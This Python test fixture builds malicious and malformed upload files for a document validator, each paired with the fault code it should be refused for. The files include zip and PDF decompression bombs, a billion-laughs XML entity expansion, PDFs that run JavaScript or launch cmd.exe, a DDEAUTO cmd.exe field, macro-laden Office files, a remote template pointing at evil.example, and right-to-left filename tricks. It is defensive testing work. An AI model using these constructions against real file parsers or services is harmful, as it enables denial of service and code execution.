"""Files that somebody might upload in error or in malice, each with the fault it is refused for.

name -> (file name, what makes its bytes, code of the fault)
"""

import io
import os
import zipfile
import zlib

from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

from tests.make import SMALL_PDF

TYPES = "<Types/>"
REMOTE = '<Relationships><Relationship Id="r1" Type="http://x/{}" Target="http://evil.example/a" TargetMode="External"/></Relationships>'  # noqa: E501
MAIN = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml", "pptx": "ppt/presentation.xml"}


def pdf(change=None, **options):
    """A real PDF of one page, changed by a function of its writer."""
    writer = PdfWriter()
    writer.add_blank_page(90, 90)
    if change:
        change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r0" Type="http://x/officeDocument" Target="{}"/></Relationships>'
)


def office(kind="docx", main="<document/>", types=TYPES, **members):
    """An office file; members by name, with "/" written as "__"."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr("_rels/.rels", RELATIONS.format(MAIN[kind]))
        archive.writestr(MAIN[kind], main)
        for name, content in members.items():
            archive.writestr(
                name.replace("___", "/_")
                .replace("__xml", ".xml")
                .replace("__rels", ".rels")
                .replace("__bin", ".bin")
                .replace("__", "/"),
                content,
            )
    return out.getvalue()


def stream(data, **entries):
    made = StreamObject()
    made._data = data
    for key, value in entries.items():
        made[NameObject(f"/{key}")] = value
    return made


def contents(writer, made):
    writer.pages[0][NameObject("/Contents")] = writer._add_object(made)


def catalog(writer, **entries):
    for key, value in entries.items():
        writer._root_object[NameObject(f"/{key}")] = value


def action(kind, **entries):
    made = DictionaryObject({NameObject("/S"): NameObject(f"/{kind}")})
    for key, value in entries.items():
        made[NameObject(f"/{key}")] = value
    return made


def zeros(megabytes):
    """Packed zeros: one packed block, repeated, which costs nothing to make."""
    deflate = zlib.compressobj(9)
    head = deflate.compress(b"") + deflate.flush(zlib.Z_FULL_FLUSH)
    block = deflate.compress(bytes(1024 * 1024)) + deflate.flush(zlib.Z_FULL_FLUSH)
    return head + block * megabytes + deflate.flush()


def flate(data):
    return stream(data, Filter=NameObject("/FlateDecode"))


def nested(writer):
    twice = zlib.compress(zeros(2000))
    filters = ArrayObject([NameObject("/FlateDecode")] * 2)
    contents(writer, stream(twice, Filter=filters))


def image(writer):
    made = stream(
        zeros(1),
        Filter=NameObject("/FlateDecode"),
        Subtype=NameObject("/Image"),
        Width=NumberObject(100_000),
        Height=NumberObject(100_000),
    )
    writer.pages[0][NameObject("/Resources")] = DictionaryObject(
        {NameObject("/XObject"): DictionaryObject({NameObject("/I"): writer._add_object(made)})}
    )


def deep():
    """Arrays in arrays, deeper than any reader's stack."""
    arrays = b"[" * 200_000 + b"]" * 200_000
    return SMALL_PDF.replace(b"/Count 1", b"/Count 1/X " + arrays)


def pages_in_a_circle():
    return SMALL_PDF.replace(b"/Kids[3 0 R]", b"/Kids[2 0 R]")


def zip_bomb():
    """1 GB of zeros in a sheet of 1 MB."""
    out = io.BytesIO(office("xlsx"))
    with (
        zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
        archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet,
    ):
        for _ in range(1024):
            sheet.write(bytes(1024 * 1024))
    return out.getvalue()


def lying_bomb():
    """A sheet that unpacks to more than its directory says."""
    whole = bytearray(office("xlsx", xl__big__xml=b"0" * 5_000_000))
    for place in range(len(whole) - 4):
        if whole[place : place + 4] == (5_000_000).to_bytes(4, "little"):
            whole[place : place + 4] = (10).to_bytes(4, "little")
    return bytes(whole)


def encrypted_members():
    whole = bytearray(office())
    for sign, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = whole.find(sign)
        while start >= 0:
            whole[start + offset] |= 1
            start = whole.find(sign, start + 4)
    return bytes(whole)


def password_office():
    """What Word writes when it is given a password: an old container around the cipher."""
    return bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504) + "EncryptedPackage".encode("utf-16-le")


def protected(writer):
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="AES-256")


def restricted(writer):
    writer.encrypt(user_password="", owner_password="owner", algorithm="RC4-128")


LAUGHS = '<!DOCTYPE a [<!ENTITY x0 "ha">{}]><a>&x30;</a>'.format(
    "".join(f'<!ENTITY x{n} "&x{n - 1};&x{n - 1};">' for n in range(1, 31))
)
TEXT = TextStringObject("app.alert(1)")


def _plain_zip():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("evil.exe", "MZ")
    return out.getvalue()


def _without_main():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        archive.writestr("word/styles.xml", "<a/>")
    return out.getvalue()


FILES = {
    "zero bytes": ("a.pdf", lambda: b"", "empty"),
    "only blanks": ("a.pdf", lambda: b" " * 4000, "type"),
    "a page renamed to PDF": ("a.pdf", lambda: b"<html><script>alert(1)</script></html>", "type"),
    "a program renamed to PDF": ("a.pdf", lambda: b"MZ" + os.urandom(4000), "type"),
    "a PDF renamed to Word": ("a.docx", pdf, "type"),
    "a sheet renamed to Word": ("a.docx", lambda: office("xlsx"), "type"),
    "a Word file renamed to PDF": ("a.pdf", office, "type"),
    "an archive renamed to Word": ("a.docx", _plain_zip, "type"),
    "a kind that is not taken": ("a.exe", pdf, "type"),
    "a name that reads backwards": ("\u202efdp.exe", pdf, "type"),
    "no kind at all": ("paper", pdf, "type"),
    "PDF and archive in one": ("a.pdf", lambda: pdf() + _plain_zip(), "mixed"),
    "PDF and page in one": (
        "a.pdf",
        lambda: pdf().replace(b"\n", b"\n%<html><script>alert(1)</script>\n", 1),
        "mixed",
    ),
    "PDF with a program behind it": ("a.pdf", lambda: pdf() + b"MZ" + os.urandom(9000), "mixed"),
    "archive with a program before it": ("a.docx", lambda: b"MZ" + bytes(500) + office(), "mixed"),
    "archive with something behind it": ("a.docx", lambda: office() + b"%PDF-1.4 " * 3, "mixed"),
    "cut in the middle": ("a.pdf", lambda: pdf()[: len(pdf()) // 2], "damaged"),
    "no pages": ("a.pdf", pages_in_a_circle, "damaged"),
    "arrays in arrays": ("a.pdf", deep, "damaged"),
    "a sheet cut in the middle": ("a.xlsx", lambda: office("xlsx")[:-60], "type"),
    "Word without its text": ("a.docx", _without_main, "damaged"),
    "Word with broken text": ("a.docx", lambda: office(main="<document>"), "damaged"),
    "a sheet that lies of its size": ("a.xlsx", lying_bomb, "damaged"),
    "PDF with a password": ("a.pdf", lambda: pdf(protected), "encrypted"),
    "Word with a password": ("a.docx", password_office, "encrypted"),
    "sheet with encrypted members": ("a.docx", encrypted_members, "encrypted"),
    "PDF with a script": (
        "a.pdf",
        lambda: pdf(lambda w: catalog(w, OpenAction=action("JavaScript", JS=TEXT))),
        "active",
    ),
    "PDF with a hidden script": (
        "a.pdf",
        lambda: pdf(
            lambda w: catalog(w, AA=DictionaryObject({NameObject("/WC"): action("X", JS=TEXT)}))
        ),
        "active",
    ),
    "PDF that starts a program": (
        "a.pdf",
        lambda: pdf(
            lambda w: catalog(w, OpenAction=action("Launch", F=TextStringObject("cmd.exe")))
        ),
        "active",
    ),
    "PDF with a running form": (
        "a.pdf",
        lambda: pdf(lambda w: catalog(w, AcroForm=DictionaryObject({NameObject("/XFA"): TEXT}))),
        "active",
    ),
    "PDF with a file inside": (
        "a.pdf",
        lambda: pdf(lambda w: w.add_attachment("a.exe", b"MZ")),
        "attached",
    ),
    "Word with macros": ("a.docx", lambda: office(word__vbaProject__bin="x"), "active"),
    "macro Word renamed": (
        "a.docx",
        lambda: office(
            types='<Types ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
        ),
        "active",
    ),
    "macro sheet as it is": ("a.xlsm", lambda: office("xlsx"), "type"),
    "sheet with old macros": ("a.xlsx", lambda: office("xlsx", xl__macrosheets__s="x"), "active"),
    "Word that asks another program": (
        "a.docx",
        lambda: office(main="<d><instrText>DDEAUTO c:\\\\cmd.exe</instrText></d>"),
        "active",
    ),
    "Word with a program inside": (
        "a.docx",
        lambda: office(word__embeddings__a__bin="MZ"),
        "attached",
    ),
    "Word with a template from elsewhere": (
        "a.docx",
        lambda: office(word___rels__settings__xml__rels=REMOTE.format("attachedTemplate")),
        "template",
    ),
    "PDF that unpacks to 2 GB": (
        "a.pdf",
        lambda: pdf(lambda w: contents(w, flate(zeros(2000)))),
        "bomb",
    ),
    "PDF packed twice": ("a.pdf", lambda: pdf(nested), "bomb"),
    "PDF with an endless image": ("a.pdf", lambda: pdf(image), "bomb"),
    "sheet that unpacks to 1 GB": ("a.xlsx", zip_bomb, "bomb"),
    "Word of a billion laughs": ("a.docx", lambda: office(main=LAUGHS), "bomb"),
    "Word of twenty thousand parts": (
        "a.docx",
        lambda: office(**{f"word__{n}": "" for n in range(20001)}),
        "bomb",
    ),
}
